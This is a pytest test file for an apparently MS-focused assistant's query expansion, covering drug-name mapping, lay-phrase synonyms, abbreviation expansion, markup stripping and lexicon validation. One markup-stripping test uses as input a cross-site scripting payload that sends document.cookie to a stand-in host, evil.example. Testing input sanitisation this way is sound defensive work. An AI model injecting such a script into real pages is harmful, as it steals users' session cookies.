"""Brand and everyday names mapped to the library's words."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from conftest import REPO

from assistant.drugs import DRUGS
from assistant.synonyms import (
    EVERYDAY_WORDS,
    LEXICON,
    expand_query,
    lexicon_words_in,
    load_lexicon,
    strip_markup,
    without_colour,
)
from knowledge.errors import LibraryError


def test_brand_names_are_asked_as_generic_names() -> None:
    asked = expand_query("what is Briumvi and is it any better than aubagio?")
    assert asked == "what is ublituximab and is it any better than teriflunomide?"


def test_everyday_words_stay_and_the_library_words_are_appended() -> None:
    asked = expand_query("does mono cause MS when I'm tired?")
    assert asked.startswith("does mono cause MS when I'm tired? (")
    assert "Epstein-Barr virus EBV" in asked and "fatigue" in asked


def test_questions_without_known_names_are_unchanged() -> None:
    assert expand_query("Does coffee lower the risk of MS?") == "Does coffee lower the risk of MS?"


def test_heredity_words_bring_the_library_genetics_words() -> None:
    for question in ("is MS hereditary?", "will I inherit it?", "does MS run in families?"):
        assert "genetic genes" in expand_query(question), question


def test_clinician_abbreviations_are_spelled_out() -> None:
    asked = expand_query("What was the HR for 12-week CDP in ORATORIO?")
    assert "hazard ratio" in asked and "confirmed disability worsening" in asked
    assert "yearly relapse rate" in expand_query("ARR on cladribine?")


def test_what_causes_ms_is_asked_as_the_risk_of_getting_it() -> None:
    assert "risk of getting MS" in expand_query("What causes MS?")
    assert "risk of getting MS" not in expand_query("does stress cause relapses?")


def test_spacing_out_doses_is_asked_as_a_longer_gap() -> None:
    assert "longer gap between doses" in expand_query("can I space out my infusions?")


def test_forgetfulness_and_ms_type_abbreviations_bring_the_library_words() -> None:
    assert "memory" in expand_query("she gets confused and forgetful")
    assert "relapsing-remitting MS" in expand_query("I have RRMS")
    assert "primary progressive MS" in expand_query("what about PPMS?")


def test_markup_is_left_out_of_the_words_searched_and_script_code_with_it() -> None:
    """Script and style elements hold code: their words ("document", "cookie") once
    made "how common is pain?" look like a question about something else."""
    asked = (
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        " how common is <b>pain</b> in [MS](https://example.org)? <style>p{color:red}</style>"
    )
    assert strip_markup(asked) == "how common is pain in MS?"
    # An unclosed script tag is only a tag: the words after it are still the question.
    assert strip_markup("<script> does coffee help?") == "does coffee help?"


def test_the_everyday_table_appends_only_words_the_library_uses() -> None:
    """An appended word no summary uses finds nothing and reads as a missing subject:
    "teenager" once appended "adolescent", and "can a chubby teenager get ms?" abstained.
    Only a drug the library never studied ("ldn" -> naltrexone) may be absent, so that a
    question about it abstains."""
    word = re.compile(r"[a-z0-9]+(?:[-'][a-z0-9]+)*")
    library = " ".join(p.read_text().lower() for p in (REPO / "knowledge" / "library").glob("*.md"))
    used = set(word.findall(library)) | {d.generic for d in DRUGS}
    absent = {
        lay: [w for w in word.findall(words.lower()) if w not in used]
        for lay, words in EVERYDAY_WORDS.items()
    }
    assert {lay: ws for lay, ws in absent.items() if ws} == {}


def _lexicon_error(folder: Path, text: str) -> tuple[Path, str]:
    """The lexicon file written with this text, and the error loading it raises."""
    lexicon = folder / "everyday.yaml"
    lexicon.write_text(text, encoding="utf-8")
    with pytest.raises(LibraryError) as raised:
        load_lexicon(lexicon)
    return lexicon, str(raised.value)


def test_a_bad_lexicon_file_is_located_to_its_line(tmp_path: Path) -> None:
    lexicon, error = _lexicon_error(
        tmp_path,
        '- library: "fatigue"\n  everyday: ["knackered"]\n- library: "smoking"\n'
        '  everyday: ["Fags"]\n  note: x\n',
    )
    assert f"{lexicon}:4: 1.everyday.0" in error  # capitals: never matched
    assert f"{lexicon}:5: 1.note" in error


def test_a_phrase_in_two_groups_is_refused_at_its_second_line(tmp_path: Path) -> None:
    """A phrase mapped twice would mean whichever group came last, silently."""
    lexicon, error = _lexicon_error(
        tmp_path,
        '- library: "fatigue"\n  everyday: ["knackered"]\n'
        '- library: "sleep"\n  everyday:\n    - kip\n    - knackered\n',
    )
    assert f"{lexicon}:6: everyday: 'knackered' is in two groups" in error


def test_the_bundled_lexicon_loads_with_phrases_of_colour() -> None:
    table = load_lexicon(LEXICON)
    assert table["ciggies"] == "smoking" and table["doing my head in"] == ""


def test_a_word_of_an_everyday_phrase_is_read_only_inside_it() -> None:
    """ "hill" is read in "over the hill" (older people), not in "hill walking"."""
    assert "hill" in lexicon_words_in("does ms get worse once you're over the hill?")
    assert "hill" not in lexicon_words_in("is hill walking ok with ms?")
    assert lexicon_words_in("do blokes get worse quicker?") >= {"blokes", "quicker"}


def test_phrases_of_colour_name_nothing_and_add_nothing_to_the_search() -> None:
    asked = "the fatigue is doing my head in, is it common?"
    assert without_colour(asked) == "the fatigue is  , is it common?"
    assert expand_query("bits and bobs before diagnosis?") == "bits and bobs before diagnosis?"


def test_a_phrase_is_read_with_hyphens_or_spaces_and_in_the_plural() -> None:
    """People hyphenate and pluralise lexicon phrases as they like; a plural the lexicon
    lists on its own ("jabs") is read once, as that phrase."""
    assert expand_query("does the hair-and-nails vitamin help?").endswith("(biotin)")
    assert expand_query("do chilled vests work?").endswith("(cooling vest)")
    assert expand_query("are flu jabs safe?").endswith("(vaccines; flu vaccine)")


def test_phrases_are_found_beside_punctuation_possessives_and_plurals() -> None:
    """The search is narrowed by first words (synonyms._Phrases): a word that ends in a
    comma, a question mark or "'s", or is plural, still opens its phrase."""
    assert expand_query("kesimpta, or briumvi?") == "ofatumumab, or ublituximab?"
    assert expand_query("my neuro's view on tiredness?").endswith("(neurologist; fatigue)")
    assert expand_query("are the shots safe?").endswith("(injection vaccine)")
